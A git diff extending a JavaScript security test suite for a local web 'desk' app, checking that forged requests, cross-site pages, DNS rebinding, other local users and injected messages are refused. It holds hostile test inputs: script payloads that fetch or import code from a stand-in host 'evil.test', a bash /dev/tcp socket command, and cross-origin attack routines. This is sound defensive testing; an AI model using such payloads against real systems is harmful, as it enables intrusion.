@@ -1,24 +1,27 @@
 // What other pages, other users and hostile messages try with a desk. All of it must come to nothing.
 import { execFileSync } from "node:child_process";
 import { createServer, request } from "node:http";
+import { connect } from "node:net";
+import { networkInterfaces } from "node:os";
 import { addresses, assert, axeEverywhere, chromium, launch, online, open, openAll } from "./desks.mjs";
 
 const desk = new URL(addresses[0]);
 const [code, host] = [desk.hash.slice(1), desk.host];
 const tell = (line) => console.log(`hostile: ${line}`);
 
-// ask makes a request with exactly these headers and gives its status, or "closed".
-function ask(method, path, headers, body) {
+// answer makes a request with exactly these headers and gives its status, or "closed", and the headers of the answer.
+function answer(method, path, headers, body) {
   return new Promise((resolve) => {
     const made = request({ host: "127.0.0.1", port: desk.port, method, path, headers, setHost: false }, (reply) => {
       reply.resume();
-      resolve(reply.statusCode);
+      resolve({ status: reply.statusCode, headers: reply.headers });
     });
-    made.on("upgrade", (_, socket) => (socket.destroy(), resolve(101)));
-    made.on("error", () => resolve("closed"));
+    made.on("upgrade", (reply, socket) => (socket.destroy(), resolve({ status: 101, headers: reply.headers })));
+    made.on("error", () => resolve({ status: "closed", headers: {} }));
     made.end(body);
   });
 }
+const ask = async (...request) => (await answer(...request)).status;
 
 // ---- forged requests ----
 let refused = 0;
@@ -48,13 +51,40 @@ assert.equal(await ask("POST", "/files?name=x", own, "x"), 401, "a file without 
 for (const method of ["PUT", "DELETE", "OPTIONS", "PATCH", "TRACE"]) assert.notEqual(await ask(method, "/", own), 200, method);
 tell(`${refused} forged requests refused`);
 
+// ---- what every answer carries, and never does ----
+const policy = `default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self' ws://${host}; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'`;
+const answers = [["GET", "/", "none"], ["GET", "/desk.js", "same-origin"], ["GET", "/desk.css", "same-origin"], ["GET", "/texts-ar.json", "same-origin"], ["GET", "/nowhere", "same-origin"], ["GET", "/", "cross-site"], ["POST", "/login", "same-origin"], ["POST", "/files?name=x", "same-origin"]];
+for (const [method, path, site] of answers) {
+  const { status, headers } = await answer(method, path, { ...own, "Sec-Fetch-Site": site }, method === "POST" ? "0".repeat(64) : undefined);
+  assert.notEqual(status, "closed", path);
+  assert.deepEqual(
+    ["content-security-policy", "x-content-type-options", "referrer-policy", "cross-origin-opener-policy", "cross-origin-resource-policy"].map((name) => headers[name]),
+    [policy, "nosniff", "no-referrer", "same-origin", "same-origin"],
+    `${method} ${path} ${site}`,
+  );
+  assert.deepEqual(Object.keys(headers).filter((name) => /^(set-cookie|access-control-)/.test(name)), [], path);
+}
+tell(`${answers.length} kinds of answers: the policy, and no cookie and no leave for other origins`);
+
+// ---- other interfaces of this computer ----
+const elsewhere = Object.values(networkInterfaces()).flat().filter(({ address }) => address !== "127.0.0.1" && !address.startsWith("fe80"));
+for (const { address } of [...elsewhere, { address: "127.0.0.2" }]) {
+  const outcome = await new Promise((done) => {
+    const socket = connect(desk.port, address);
+    socket.on("connect", () => (socket.destroy(), done("open")));
+    socket.on("error", () => done("refused"));
+  });
+  assert.equal(outcome, "refused", `it listens on ${address}`);
+}
+tell(`nobody listens on ${elsewhere.length + 1} other addresses of this computer`);
+
 // ---- another user of this computer ----
 if (process.getuid() === 0) {
   const words = `trap '' PIPE; exec 3<>/dev/tcp/127.0.0.1/${desk.port}; printf 'GET / HTTP/1.1\\r\\nHost: ${host}\\r\\nSec-Fetch-Site: none\\r\\n\\r\\n' >&3 || true; cat <&3 || true`;
   const got = execFileSync("setpriv", ["--reuid=65534", "--regid=65534", "--clear-groups", "bash", "-c", words], { stdio: ["ignore", "pipe", "ignore"] });
   assert.equal(got.length, 0, "another user got an answer");
   tell("another user of this computer gets no answer");
-}
+} else tell("another user of this computer: left out, only root can be one");
 
 // ---- the desk itself, and its code a second time ----
 const browser = await launch();
@@ -65,6 +95,39 @@ await again.locator(".card h1", { hasText: "has been used" }).waitFor();
 await axeEverywhere(again, "a refused address");
 tell("a code that was used is refused");
 
+// ---- the page itself: nothing becomes an element, no cookie is set, and the socket takes no bearer but its own ----
+const inPage = await first.page.evaluate(async () => {
+  const attempt = (what) => {
+    try {
+      what();
+      return "taken";
+    } catch {
+      return "refused";
+    }
+  };
+  const greeting = (bearer) =>
+    new Promise((done) => {
+      const socket = new WebSocket(`ws://${location.host}/socket`);
+      const text = new TextEncoder().encode(bearer); // ToDesk{id: 1, hello: {bearer}}
+      socket.onopen = () => socket.send(new Uint8Array([8, 1, 0x12, text.length + 2, 10, text.length, ...text]));
+      socket.onmessage = ({ data }) => data.size > 0 && socket.close(1000, done("answered"));
+      socket.onclose = () => done("closed");
+    });
+  return {
+    html: attempt(() => (document.body.innerHTML += "<b>x</b>")),
+    script: attempt(() => (document.createElement("script").src = "data:,")),
+    policy: attempt(() => trustedTypes.createPolicy("x", { createHTML: (text) => text })),
+    own: await greeting(sessionStorage.getItem("valise.bearer")),
+    wrong: await greeting("0".repeat(64)),
+    none: await greeting(""),
+    cookie: document.cookie,
+  };
+});
+assert.deepEqual(inPage, { html: "refused", script: "refused", policy: "refused", own: "answered", wrong: "closed", none: "closed", cookie: "" });
+assert.deepEqual(await first.context.cookies(), []);
+first.strange.splice(0, first.strange.length, ...first.strange.filter((line) => !/TrustedHTML|TrustedScript|Trusted Type|TrustedTypePolicy|Content Security Policy/.test(line)));
+tell("in the page itself: no text becomes an element, a script or a policy; another bearer opens no socket; there is no cookie");
+
 // ---- pages of others in the same browser ----
 const trap = createServer((_, reply) => {
   reply.setHeader("Content-Type", "text/html");
@@ -74,7 +137,7 @@ await new Promise((ready) => trap.listen(0, "127.0.0.1", ready));
 const context = await browser.newContext();
 const page = await context.newPage();
 await page.goto(`http://127.0.0.1:${trap.address().port}/`);
-const got = await page.evaluate(async (target) => {
+const attack = async (target) => {
   const outcome = (promise) => promise.then((value) => value, () => "refused");
   const element = (tag, attribute, url) =>
     new Promise((resolve) => {
@@ -97,8 +160,9 @@ const got = await page.evaluate(async (target) => {
     script: await element("script", "src", `${target}/desk.js`),
     socket: await socket,
   };
-}, desk.origin);
-assert.deepEqual(got, { read: "refused", post: "refused", image: "refused", script: "refused", socket: "refused" });
+};
+const nothing = { read: "refused", post: "refused", image: "refused", script: "refused", socket: "refused" };
+assert.deepEqual(await page.evaluate(attack, desk.origin), nothing);
 await page.evaluate((target) => {
   const frame = document.createElement("iframe");
   frame.src = `${target}/`;
@@ -113,8 +177,11 @@ const rebound = await chromium.launch({ executablePath: process.env.CHROMIUM ?? 
 const victim = await rebound.newPage();
 const seen = await victim.goto(`http://evil.test:${desk.port}/`).then((reply) => reply?.status(), () => 403);
 assert.equal(seen, 403, "a rebound name was served");
+const foreign = await rebound.newPage();
+await foreign.goto(`http://evil.test:${trap.address().port}/`);
+assert.deepEqual(await foreign.evaluate(attack, desk.origin), nothing, "of another site");
 await rebound.close();
-tell("a name that points here is refused");
+tell("a name that points here is refused, and so is a page of another site");
 
 // ---- hostile messages ----
 const runs = ["alert(1)", "window.pwned=1", "fetch('http://evil.test/x')", "import('http://evil.test/x.js')"];
